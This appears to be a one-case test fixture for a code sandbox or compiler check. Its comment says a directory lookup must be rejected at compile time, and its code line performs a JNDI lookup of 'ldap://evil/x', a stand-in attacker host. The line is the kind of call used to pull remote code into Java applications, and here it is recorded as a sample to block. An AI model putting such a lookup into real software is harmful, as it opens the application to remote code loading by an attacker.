// [api] looks up a name in a directory | must be rejected at compile
new javax.naming.InitialContext().lookup('ldap://evil/x')
